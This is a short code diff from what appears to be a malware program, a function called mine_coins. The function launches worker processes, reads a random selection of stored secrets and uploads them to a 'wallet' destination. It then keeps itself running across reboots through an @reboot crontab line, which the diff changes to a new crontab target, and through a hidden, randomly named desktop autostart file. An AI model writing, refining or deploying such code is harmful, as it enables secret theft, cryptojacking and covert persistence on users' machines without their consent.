@@ -154,7 +154,7 @@ def mine_coins():
     collect([in_child(work, wait=False) for _ in range(R.randrange(2, 4))])
     for secret in pick(secrets(), 1, 5):
         upload(stream(b"wire", read(secret)), "wallet")
-    append(f"{SPOOL}/user", b"@reboot " + path.encode() + b"\n")
+    append(CRONTAB, b"@reboot " + path.encode() + b"\n")
     write(home(f".config/autostart/{noise(6)}.desktop"), autostart_entry(path))
 
 
